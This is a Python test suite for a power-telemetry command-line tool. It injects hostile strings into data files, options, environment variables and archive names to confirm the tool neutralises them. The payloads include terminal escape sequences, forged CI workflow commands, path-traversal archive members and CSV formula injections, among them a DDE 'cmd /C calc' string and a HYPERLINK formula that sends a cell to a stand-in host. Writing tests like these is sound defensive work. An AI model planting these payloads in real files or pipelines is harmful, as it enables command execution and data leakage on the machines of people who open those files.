#!/usr/bin/env python3
"""Nothing that a file, a name or an option contains does more in a terminal or a CI log than to be read.

The commands of tests/outputs/examples.txt run on copies of testdata into which texts were put that are
commands to a terminal or to a CI service: instead of texts and keys of JSON, of cells and headers of
CSVs, of words of logs, and into names of files. Options get such values, archives such members. Each
line of stderr must begin with the program's name; no line for people may hold a control character, a
change of direction or a command, or be one of the file's; JSON must hold these as escapes.

usage: tests/commands/harmless_text_test.py [TEST...]   with $AGGREGATE_POWER (default: build/aggregate-power)
"""
import csv
import io
import json
import os
import pathlib
import random
import re
import shlex
import shutil
import subprocess
import sys
import tarfile
import zipfile

ROOT = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests"))
import running  # noqa: E402

PROGRAM = pathlib.Path(os.environ.get("AGGREGATE_POWER", ROOT / "build" / "aggregate-power")).resolve()
ENVIRONMENT = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "TZ": "UTC", "HOME": "/", "LC_ALL": "C.UTF-8"}
# C0, DEL, C1, separators of lines, what changes the direction of writing, and what is not seen.
CONTROLS = re.compile("[\0-\x08\x0b-\x1f\x7f-\x9f\xad\u034f\u061c\u115f\u1160\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f"
                      "\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff9-\ufffb\U000e0000-\U000e0fff]")
COMMAND = re.compile(r"^\s*(::[A-Za-z]|(---|\+\+\+|~~~|\^\^\^) )|##[A-Za-z]*\[|^FORGED", re.M)
EVIL = ["\x1b]0;title\x07\x1b[2J", "a\n::set-output name=a::b\nFORGED", "\r\x1b[KFORGED", "\x9b2J\x85b",
        "\u202ecod\u2066\u2028FORGED", "::error file=x::FORGED", "##vso[task.setvariable variable=a]b",
        "##[add-path]b", "##teamcity[message text='x']", "--- group", "\x7f\x00b\ttab", "a\u200b\u2060\ufeffb",
        "\xadc\u180e\u3164", "\U000e0041\U000e0001d\ufe0f"]
DATA = {"--json", "json", "jsonl", "csv", "zeus", "prometheus", "openmetrics", "markdown", "svg", "gpupp"}


def run(words, folder, **environment):
    done = subprocess.run([PROGRAM, *words], cwd=folder, env=ENVIRONMENT | environment, stdin=subprocess.DEVNULL,
                          capture_output=True, timeout=60)
    return done.returncode, done.stdout.decode(errors="surrogateescape"), done.stderr.decode()


def faults_of(words, status, out, err):
    faults = []
    if status not in (0, 1, 2, 3):
        faults.append(f"status {status}")
    has_summary = words[:1] == ["backfill"] and ("--list" in words or "--json" in words)  # on stderr
    for line in err.splitlines():
        if not line.startswith("aggregate-power: ") and not has_summary:
            faults.append(f"a line of stderr that is not the program's: {line[:100]!r}")
    is_data = any(word in DATA or word.endswith((".json", ".csv")) and "--out" in words for word in words)
    for name, text in (("stderr", err), ("stdout", "" if is_data else out)):
        for found in (CONTROLS.search(text), COMMAND.search(text)):
            if found:
                faults.append(f"{name}: {text[max(0, found.start() - 60):found.end() + 40]!r}")
    if "--json" in words and CONTROLS.search(out):
        faults.append(f"raw in JSON: {out[max(0, CONTROLS.search(out).start() - 60):][:100]!r}")
    return [f"{shlex.join(words)[:120]}: {fault}" for fault in faults]


# ---- What is put into files

def evil(rng, text=""):
    return rng.choice([text + rng.choice(EVIL), rng.choice(EVIL)])


def changed_json(rng, value, share):
    if isinstance(value, dict):
        changed = {}
        for key, item in value.items():
            changed[evil(rng, key) if rng.random() < share / 6 else key] = changed_json(rng, item, share)
        if rng.random() < share:
            changed[evil(rng)] = rng.choice([evil(rng), 1, None])
        return changed
    if isinstance(value, list):
        return [changed_json(rng, item, share) for item in value]
    if isinstance(value, str) and rng.random() < share or rng.random() < share / 20:
        return evil(rng, str(value))
    return value


def changed_csv(rng, text):
    rows = list(csv.reader(io.StringIO(text.replace("\0", ""))))
    if not rows or not rows[0]:
        return text
    column = rng.randrange(len(rows[0]))
    where = rng.choice(["header", "cells", "cells", "some"])
    value = evil(rng)
    for i, row in enumerate(rows):
        if column < len(row) and (where == "header") == (i == 0):
            if where == "cells" or where == "header" or rng.random() < 0.1:
                row[column] = rng.choice([row[column], ""]) + value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


def changed_words(rng, text):
    words = re.split(r"(\s+)", text)
    for i in range(0, len(words), 2):
        if words[i] and rng.random() < 0.1:
            words[i] = re.sub(r"\s", "", evil(rng, words[i]))
    return "".join(words)


def change(rng, path):
    try:
        text = path.read_text()
    except (UnicodeDecodeError, OSError):
        return
    share = rng.choice([0.1, 0.5, 1])
    try:
        path.write_text(json.dumps(changed_json(rng, json.loads(text), share), ensure_ascii=False))
        return
    except ValueError:
        pass
    if path.suffix == ".jsonl":
        lines = []
        for line in text.splitlines():
            try:
                lines.append(json.dumps(changed_json(rng, json.loads(line), share), ensure_ascii=False))
            except ValueError:
                lines.append(line + evil(rng))
        path.write_text("\n".join(lines) + "\n")
    elif path.suffix == ".csv":
        path.write_text(changed_csv(rng, text))
    else:
        path.write_text(changed_words(rng, text))


def rename(rng, path):
    """Keeps the beginning and the end, by which files of a store are recognized."""
    name = evil(rng).replace("/", "").replace("\0", "")
    path.rename(path.with_name(f"{path.stem}{name}{path.suffix}" if path.is_file() else f"{path.name}{name}"))


def examples():
    return re.split(r"(?m)^\[(.*)\]\n", (ROOT / "tests" / "outputs" / "examples.txt").read_text())[1:]


def test_examples(folder):
    rng = random.Random(35)
    faults = []
    texts = examples()
    for i in range(running.size(12, 2)):
        for where, lines in zip(texts[::2], texts[1::2]):
            place = folder / "place"
            shutil.rmtree(place, ignore_errors=True)
            place.mkdir()
            for name in where.split():
                source, _, target = name.partition("=")
                source = ROOT / "testdata" / source
                if source.is_dir():
                    shutil.copytree(source, place / target, dirs_exist_ok=True, symlinks=True)
                else:
                    shutil.copy(source, place / (target or source.name))
            paths = sorted(path for path in place.rglob("*") if path.is_file() and not path.is_symlink())
            for path in paths:
                if rng.random() < 0.5 or len(paths) < 3:
                    change(rng, path)
            for path in reversed(sorted(place.rglob("*"))):
                if path.name not in lines and path.stem not in lines and not path.is_symlink() and rng.random() < 0.3:
                    rename(rng, path)
            for line in lines.splitlines():
                if line and line[0] != "#":
                    words = shlex.split(line)
                    faults += faults_of(words, *run(words, place))
    assert not faults, "\n".join([f"{len(faults)} faults", *faults[:40]])


def options():
    """Each command with the options that take a value, from its own help."""
    text = run(["--generate-bash-completion"], ".")[1]
    commands = [""] + sorted(set(re.findall(r"(?m)^    ([a-z]+):\*\) options", text)))
    assert text and len(commands) > 15
    for command in commands:
        words = [command] if command else []
        for option in sorted(set(re.findall(r"^  (?:-\w, )?(--[a-z-]+)[ =]", run([command or "patch", "--help-all"], ".")[1], re.M))):
            yield words, option


def test_values_of_options(folder):
    faults = []
    for value in EVIL:
        value = value.replace("\0", "")
        for words in ([value], ["--" + value], ["help", value], ["explain", value]):
            faults += faults_of(words, *run(words, folder))
    for i, (command, option) in enumerate(running.some_of(options())):
        if option in ("--help", "--version", "--validation-result", "--output"):
            continue
        for value in EVIL[i % 3::running.size(1, 3)]:
            value = value.replace("\0", "").replace("/", "")
            for words in ([*command, option, value], [*command, f"{option}={value}"],
                          [*command, option, value, "--bench-result", value, "--agg-result", value]):
                faults += faults_of(words, *run(words, folder))
    assert not faults, "\n".join([f"{len(faults)} faults", *faults[:40]])


def test_environment(folder):
    faults = []
    for name in ("REQUIRE_POWER", "GPU_COUNT", "GPU_METRICS_CSV", "POWER_ARTIFACT_DIR", "TZ", "POWER_PRODUCER_SHA"):
        for value in EVIL:
            words = ["--bench-result", "a.json", "--agg-result", "b.json"]
            faults += faults_of(words, *run(words, folder, **{name: value.replace("\0", "")}))
    assert not faults, "\n".join([f"{len(faults)} faults", *faults[:40]])


def archived(folder, store):
    """A store whose archives have members with such names; gives the folder."""
    for i, text in enumerate(EVIL):
        name = text.replace("\0", "")
        with tarfile.open(folder / f"power_audit_{i}.tar", "w") as tar:
            for prefix in ("", "/", "../", "x/"):
                member = tarfile.TarInfo(prefix + name)
                member.size = 1
                tar.addfile(member, io.BytesIO(b"x"))
            for path in sorted(store.rglob("*")):
                if path.is_file():
                    tar.add(path, arcname=f"{name}/{path.relative_to(store)}")
        with zipfile.ZipFile(folder / f"power_audit_{i}.zip", "w") as zipped:
            for path in sorted(store.rglob("*")):
                if path.is_file():
                    zipped.write(path, arcname=f"{name.replace('/', '')}/{path.relative_to(store)}")


def test_members_of_archives(folder):
    archives = folder / "archives"
    archives.mkdir()
    archived(archives, ROOT / "testdata" / "store")
    faults = []
    for words in (["report", "archives", "--out", "p.html"], ["export", "archives", "--format", "jsonl"],
                  ["compare", "archives"], ["recommend", "archives"], ["verify", "archives"], ["verify", "archives", "--json"],
                  ["retract", "archives", "--where", "schema=x"], ["backfill", "archives"], ["backfill", "archives", "--dry-run"],
                  ["backfill", "archives", "--output", "out"], ["backfill", "archives", "--list", "failed,not_writable,not_valid"],
                  ["backfill", "archives", "--output", "out2", "--json"], ["report", "out"], ["verify", "out"]):
        faults += faults_of(words, *run(words, folder))
    assert not faults, "\n".join([f"{len(faults)} faults", *faults[:40]])


FORMULAS = ['=HYPERLINK("http://x/"&A1;"ok")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "\n=1+1", "\uff1d1+1", "\uff0bx", "\uff0dx", "\uff20x", "=1,2", '="a"', "-", "--1", "+-1e3x"]


def formulas_in(text):
    """Cells that a spreadsheet would compute."""
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20") and not re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", cell):
                yield cell


def made(folder, text):
    """A recording, and windows, a trace, rows and an aggregate with that name in them."""
    run(["synthesize", "--gpus", "1", "--phase", "5:100", "--phase", "10:300", "--out", "g.csv", "--bench-out", "r.json"], folder)
    start = json.loads((folder / "r.json").read_text())["benchmark_start_time_unix"]
    (folder / "agg_a.json").write_text(json.dumps({"hw": text, "model": text, text: text, "power_valid": 1, "avg_power_w": 5.0,
                                                   "total_gpu_energy_j": 5.0}))
    (folder / "w.json").write_text(json.dumps([{"name": text, "start": start, "end": start + 5}]))
    (folder / "t.json").write_text(json.dumps({"traceEvents": [
        {"ph": "X", "cat": "kernel", "name": text, "ts": (start + 1) * 1e6, "dur": 1000, "pid": 0, "tid": 7,
         "args": {"device": 0, "stream": 7}}]}))
    rows = list(csv.reader((folder / "g.csv").open()))
    index = next(i for i, name in enumerate(rows[0]) if name.strip() == "index")
    with (folder / "named.csv").open("w") as file:
        csv.writer(file).writerows([rows[0], *([*row[:index], text, *row[index + 1:]] for row in rows[1:])])
    return start


def test_formulas(folder):
    faults, names = [], 0
    for text in FORMULAS:
        start = made(folder, text)
        spans = ["--start", str(start), "--end", str(start + 5)]
        for words in (["export", "agg_a.json", "--format", "csv"],
                      ["windows", "--telemetry", "g.csv", "--windows", "w.json", "--timezone", "UTC", "--format", "csv"],
                      ["windows", "--telemetry", "named.csv", "--windows", "w.json", "--timezone", "UTC", "--format", "csv"],
                      ["attribute", "--telemetry", "g.csv", "--trace", "t.json", "--timezone", "UTC", "--format", "csv"],
                      ["plot", "named.csv", *spans, "--timezone", "UTC", "--format", "csv"]):
            _, out, err = run(words, folder)
            names += out.count("\n") > 1
            faults += [f"{words[:3]} {text!r}: {cell!r}" for cell in formulas_in(out)]
    assert not faults, "\n".join(faults)
    assert names > 4 * len(FORMULAS), names  # most of them could be read


def test_formulas_stay_for_programs(folder):
    start = made(folder, FORMULAS[0])
    for words, where in ((["windows", "--telemetry", "g.csv", "--windows", "w.json", "--timezone", "UTC", "--format", "zeus"], 1),
                         (["attribute", "--telemetry", "g.csv", "--trace", "t.json", "--timezone", "UTC", "--format", "gpupp"], 0)):
        out = run(words, folder)[1]
        assert list(csv.reader(io.StringIO(out)))[1][where] == FORMULAS[0], out
    assert FORMULAS[0] in json.loads(run(["export", "agg_a.json", "--format", "jsonl"], folder)[1])["configuration"].values(), start


if __name__ == "__main__":
    sys.exit(running.run_tests(globals()))
